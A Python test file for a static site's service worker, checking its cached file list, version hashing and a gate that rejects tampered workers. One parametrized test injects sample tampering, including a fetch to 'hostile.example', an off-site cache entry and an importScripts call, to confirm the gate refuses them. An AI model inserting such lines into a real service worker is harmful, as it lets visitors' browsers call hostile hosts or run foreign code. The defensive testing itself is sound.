"""The service worker: what it keeps, when its version changes, and that nothing else passes."""

import re

import pytest

from macros.finish import offline
from macros.guard.site import site_problems
from tests.conftest import ROOT, finish


@pytest.fixture(scope="module")
def kept(site, tmp_path_factory):
    return finish(site, tmp_path_factory.mktemp("offline"), ["css", "assets", "offline", "policy"])


def problems_of(site):
    return [str(each) for each in site_problems(site) if offline.FILE in str(each)]


def test_names_every_tool_and_every_file_that_pages_load_and_each_is_there(kept):
    files = offline.kept(kept)
    tools = {f"tools/{path.stem}/" for path in (ROOT / "docs" / "tools").glob("*.md")}
    assert (tools - {"tools/index/"}) | {"", "tools/"} <= set(files)
    for name in files:
        path = kept / name
        assert (path / "index.html").is_file() if name.endswith("/") or not name else path.is_file()


def test_each_page_names_it_from_where_it_stands(kept):
    for page in kept.rglob("*.html"):
        text = page.read_text(encoding="utf-8")
        if page.name == "404.html":
            assert 'name="offline"' not in text
        else:
            (address,) = re.findall(r'<meta name="offline" content="([^"]+)">', text)
            assert (page.parent / address).resolve() == (kept / offline.FILE).resolve()


def test_its_version_changes_with_any_file_and_with_nothing_else(kept):
    before = offline.version(kept)
    assert offline.version(kept) == before
    page = kept / "about" / "index.html"
    text = page.read_text(encoding="utf-8")
    page.write_text(text + " ", encoding="utf-8")
    try:
        assert offline.version(kept) != before
    finally:
        page.write_text(text, encoding="utf-8")
    assert offline.version(kept) == before


def test_the_gate_lets_it_pass(kept):
    assert problems_of(kept) == []


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("skipWaiting()", "skipWaiting();fetch('https://hostile.example/')"),
        ('FILES=["', 'FILES=["https://hostile.example/","'),
        ('FILES=["', 'FILES=["../","'),
        ("FILES=[", 'EXTRA=importScripts("x.js"),FILES=['),
    ],
)
def test_the_gate_refuses_any_other_worker(kept, old, new):
    worker = kept / offline.FILE
    text = worker.read_text(encoding="utf-8")
    assert old in text
    worker.write_text(text.replace(old, new, 1), encoding="utf-8")
    try:
        assert problems_of(kept) == [f"site/{offline.FILE}: this is no file that we publish"]
    finally:
        worker.write_text(text, encoding="utf-8")


def test_the_gate_refuses_a_page_that_names_another_worker(kept):
    page = kept / "about" / "index.html"
    text = page.read_text(encoding="utf-8")
    page.write_text(text.replace(f"../{offline.FILE}", f"../x/{offline.FILE}"), encoding="utf-8")
    try:
        said = [str(each) for each in site_problems(kept) if "about/index.html" in str(each)]
        assert said == [f"site/about/index.html: a service worker stands at `../x/{offline.FILE}`"]
    finally:
        page.write_text(text, encoding="utf-8")


def test_a_worker_in_another_place_is_no_file_of_ours(kept):
    other = kept / "tools" / offline.FILE
    other.write_text((kept / offline.FILE).read_text(encoding="utf-8"), encoding="utf-8")
    try:
        assert problems_of(kept) == [f"site/tools/{offline.FILE}: this is no file that we publish"]
    finally:
        other.unlink()
